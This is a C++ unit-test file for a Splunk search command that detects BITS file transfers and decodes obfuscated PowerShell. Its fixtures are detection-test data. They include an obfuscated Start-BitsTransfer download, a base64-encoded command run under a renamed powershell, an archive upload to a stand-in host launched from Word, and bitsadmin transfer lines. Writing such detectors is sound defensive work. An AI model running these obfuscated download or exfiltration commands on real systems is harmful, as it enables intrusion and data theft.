// The command with decoding and facts: what they change of which rows match, and what they add.

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "bits/match_command.h"
#include "splunk/records/csv.h"
#include "tests/splunk/temporary_directory.h"

namespace bits {
namespace {

using splunk::TemporaryDirectory;
using Words = std::vector<std::string>;
using Row = std::map<std::string, std::string>;

struct Outcome {
  std::vector<Row> rows;
  Words warnings;
  std::string error;
};

// The rows that the command makes of some, by column.
Outcome search(const Words& args, const std::string& body, const Installation& installation = {}) {
  Outcome out;
  MatchCommand command(installation);
  splunk::chunked::SearchInfo info;
  info.args = info.raw_args = args;
  if (const auto configured = command.configure(info); !configured) {
    out.error = configured.error().message;
    return out;
  }
  splunk::records::MemoryStream stream(body);
  splunk::records::RecordReader reader;
  splunk::records::ByteBuffer made;
  splunk::records::RecordWriter writer(made);
  splunk::chunked::Messages messages;
  splunk::chunked::Chunk chunk{true, messages};
  EXPECT_TRUE(reader.open(stream));
  if (const auto done = command.process(reader, writer, chunk); !done) {
    out.error = done.error().message;
    return out;
  }
  for (const auto& message : messages.take()) out.warnings.push_back(message.text);

  const std::string reply(made.view());
  if (reply.empty()) return out;
  splunk::records::MemoryStream replied(reply);
  splunk::records::RecordReader read_back;
  EXPECT_TRUE(read_back.open(replied));
  read_back.select_all();
  splunk::records::RowBlock block;
  std::string scratch;
  while (*read_back.next(block)) {
    for (const splunk::records::Row row : block) {
      Row& values = out.rows.emplace_back();
      for (std::size_t i = 0; i < read_back.header().size(); ++i) {
        values[read_back.header().name(i)] = splunk::records::field_value(row.field(i), scratch);
      }
    }
  }
  return out;
}

constexpr const char* kHidden =
    "process\n\"powershell -c \"\"&('Start-Bits'+'Transfer') https://example.com/a.txt "
    "C:\\Data\\a.txt\"\"\"\n";
constexpr const char* kMention = "process\n\"notepad.exe C:\\docs\\start-bitstransfer.md\"\n";

TEST(Decoding, FindsWhatIsHiddenAndSaysHow) {
  const Outcome found = search({}, kHidden);
  ASSERT_EQ(found.rows.size(), 1U) << found.error;
  const Row& row = found.rows[0];
  EXPECT_EQ(row.at("bits_match"), "1");
  EXPECT_EQ(row.at("bits_pattern"), "*start-bitstransfer*");
  EXPECT_NE(row.at("bits_decoded").find("Start-BitsTransfer https://example.com/a.txt"),
            std::string::npos)
      << row.at("bits_decoded");
  EXPECT_EQ(row.at("bits_obfuscation"), "concatenation\ncall-operator");
  EXPECT_EQ(row.at("__mv_bits_obfuscation"), "$concatenation$;$call-operator$");
}

TEST(Decoding, IsForWildcardsOfTheSearchToo) {
  EXPECT_EQ(search({"*start-bitstransfer*"}, kHidden).rows.size(), 1U);
  EXPECT_EQ(search({"*start-bitstransfer*", "decode=false"}, kHidden).rows.size(), 0U);
  EXPECT_EQ(search({"*nothing*"}, kHidden).rows.size(), 0U);
}

TEST(Decoding, TurnedOffLeavesOnlyWhatIsWritten) {
  const Outcome off = search({"decode=false", "mode=annotate"}, kHidden);
  ASSERT_EQ(off.rows.size(), 1U);
  EXPECT_EQ(off.rows[0].at("bits_match"), "0");
  EXPECT_FALSE(off.rows[0].contains("bits_decoded"));
  EXPECT_FALSE(off.rows[0].contains("bits_obfuscation"));
  EXPECT_TRUE(off.rows[0].contains("bits_command"));
}

TEST(Decoding, SaysNothingWhereNothingIsHidden) {
  const Outcome plain = search({}, "process\nbitsadmin /transfer j http://example.com/a C:\\a\n");
  ASSERT_EQ(plain.rows.size(), 1U);
  EXPECT_EQ(plain.rows[0].at("bits_decoded"), "");
  EXPECT_EQ(plain.rows[0].at("bits_obfuscation"), "");
}

TEST(Decoding, KnowsARenamedPowershellByItsOriginalName) {
  // Start-BitsTransfer http://h.test/a b, in UTF-16 and base64
  const std::string line =
      "C:\\x\\svc.exe -enc "
      "UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIABoAHQAdABwADoALwAvAGgAL"
      "gB0AGUAcwB0AC8AYQAgAGIA";
  EXPECT_EQ(search({}, "process\n" + line + "\n").rows.size(), 0U);
  const Outcome named = search({}, "original_file_name,process\nPowerShell.EXE," + line + "\n");
  ASSERT_EQ(named.rows.size(), 1U);
  EXPECT_EQ(named.rows[0].at("bits_command"), "Start-BitsTransfer");
  EXPECT_EQ(
      search({}, "Processes.original_file_name,Processes.process\nPowerShell.EXE," + line + "\n")
          .rows.size(),
      1U);
}

TEST(Mentions, AreNoMatchOfTheBuiltInSet) {
  EXPECT_EQ(search({}, kMention).rows.size(), 0U);
  EXPECT_EQ(search({"decode=false"}, kMention).rows.size(), 0U);
  EXPECT_EQ(search({"facts=false"}, kMention).rows.size(), 0U);
  EXPECT_EQ(search({"decode=false", "facts=false"}, kMention).rows.size(), 1U)
      << "then only the wildcards are left";
}

TEST(Mentions, AreAMatchOfTheSearchsOwnWildcardAsAnythingElse) {
  const Outcome found = search({"*start-bitstransfer*"}, kMention);
  ASSERT_EQ(found.rows.size(), 1U);
  EXPECT_EQ(found.rows[0].at("bits_command"), "");
  EXPECT_EQ(found.rows[0].at("bits_risk_score"), "");
}

TEST(Mentions, WhatCantBeReadToItsEndMatchesWhereAWildcardDoes) {
  const Outcome found =
      search({}, "process\n\"powershell -c \"\"iex $env:x; Write-Host start-bitstransfer\"\"\"\n");
  ASSERT_EQ(found.rows.size(), 1U);
  EXPECT_NE(found.rows[0].at("bits_obfuscation").find("opaque"), std::string::npos);
}

TEST(Facts, StandInColumnsOfTheirOwn) {
  const Outcome found = search(
      {},
      "dest,user,parent_process_name,process\n"
      "PC1,anna,winword.exe,\"powershell Start-BitsTransfer -Source "
      "C:\\Data\\a.zip,C:\\Data\\b.zip "
      "-Destination https://up.example.com/1,https://up.example.com/2 -TransferType Upload\"\n");
  ASSERT_EQ(found.rows.size(), 1U) << found.error;
  const Row& row = found.rows[0];
  EXPECT_EQ(row.at("bits_command"), "Start-BitsTransfer");
  EXPECT_EQ(row.at("bits_direction"), "upload");
  EXPECT_EQ(row.at("__mv_bits_source"), "$C:\\Data\\a.zip$;$C:\\Data\\b.zip$");
  EXPECT_EQ(row.at("bits_remote_host"), "up.example.com");
  EXPECT_EQ(row.at("bits_remote_domain"), "example.com");
  EXPECT_EQ(row.at("bits_archive"), "1");
  EXPECT_NE(row.at("bits_behavior").find("office-parent"), std::string::npos);
  EXPECT_NE(row.at("bits_risk_message").find("anna"), std::string::npos);
  EXPECT_NE(row.at("bits_risk_message").find("PC1"), std::string::npos);
  EXPECT_EQ(row.at("dest"), "PC1");
}

TEST(Facts, APlainTransferScores56) {
  const Outcome found =
      search({},
             "process\n\"powershell Start-BitsTransfer -Source https://host/file.txt -Destination "
             "C:\\Data\\file.txt\"\n");
  ASSERT_EQ(found.rows.size(), 1U);
  EXPECT_EQ(found.rows[0].at("bits_risk_score"), "56");
  EXPECT_EQ(found.rows[0].at("bits_behavior"), "");
}

TEST(Facts, TurnedOffAreNotAdded) {
  const Outcome found = search({"facts=false"}, kHidden);
  ASSERT_EQ(found.rows.size(), 1U);
  EXPECT_TRUE(found.rows[0].contains("bits_decoded"));
  EXPECT_FALSE(found.rows[0].contains("bits_command"));
  EXPECT_FALSE(found.rows[0].contains("bits_risk_score"));
}

TEST(Facts, AreThoseOfTheValueThatTransfers) {
  const Outcome found =
      search({"*"},
             "process,__mv_process\nx,\"$ping$;$bitsadmin /transfer j http://example.com/a "
             "C:\\a$\"\n");
  ASSERT_EQ(found.rows.size(), 1U);
  EXPECT_EQ(found.rows[0].at("bits_command"), "bitsadmin /transfer");
}

TEST(Facts, ReplaceThoseOfAnEarlierRun) {
  const Outcome found =
      search({"decode=false", "facts=false"},
             "bits_command,process,bits_risk_score,__mv_bits_mitre\nold,bitsadmin /transfer j "
             "http://example.com/a C:\\a,99,x\n");
  ASSERT_EQ(found.rows.size(), 1U);
  EXPECT_FALSE(found.rows[0].contains("bits_command"));
  EXPECT_FALSE(found.rows[0].contains("bits_risk_score"));
  EXPECT_FALSE(found.rows[0].contains("__mv_bits_mitre"));
}

TEST(Facts, NeverHoldAPassword) {
  const Outcome found =
      search({}, "process\nbitsadmin /setcredentials j server basic ann S3cret9\n");
  ASSERT_EQ(found.rows.size(), 1U);
  for (const auto& [column, value] : found.rows[0]) {
    if (column != "process") {
      EXPECT_EQ(value.find("S3cret9"), std::string::npos) << column;
    }
  }
}

TEST(Tables, BehaviorsOfTheAppCountMoreThanThoseOfTheBuild) {
  const TemporaryDirectory app;
  app.write("lookups/bits_behaviors.csv",
            "behavior,impact,confidence,mitre,description\ntransfer,50,80,T1197,base\n");
  const Installation installation{app.path(), false};
  const std::string rows = "process\nbitsadmin /transfer j http://example.com/a C:\\Data\\a\n";
  const Outcome found = search({}, rows, installation);
  ASSERT_EQ(found.rows.size(), 1U);
  EXPECT_EQ(found.rows[0].at("bits_risk_score"), "40");

  app.write("lookups/bits_behaviors.csv", "behavior\n");
  const Outcome broken = search({}, rows, installation);
  ASSERT_EQ(broken.rows.size(), 1U);
  EXPECT_EQ(broken.rows[0].at("bits_risk_score"), "56");
  ASSERT_EQ(broken.warnings.size(), 1U);
  EXPECT_NE(broken.warnings[0].find("bits_behaviors.csv"), std::string::npos);
}

TEST(Tables, AnAllowListLowersTheScoreWhereItIsNamed) {
  const TemporaryDirectory app;
  app.write("lookups/known.csv", "remote_host,comment\nexample.com,ours\n");
  app.write("lookups/bad.csv", "comment\nours\n");
  const Installation installation{app.path(), false};
  const std::string rows = "process\nbitsadmin /transfer j http://example.com/a C:\\Data\\a\n";
  EXPECT_EQ(search({}, rows, installation).rows[0].at("bits_risk_score"), "56");
  const Outcome known = search({"allowlist=known.csv"}, rows, installation);
  EXPECT_EQ(known.rows[0].at("bits_risk_score"), "31");
  EXPECT_EQ(known.rows[0].at("bits_behavior"), "allow-listed");
  EXPECT_NE(search({"allowlist=bad.csv"}, rows, installation).error.find("bad.csv"),
            std::string::npos);
}

}  // namespace
}  // namespace bits
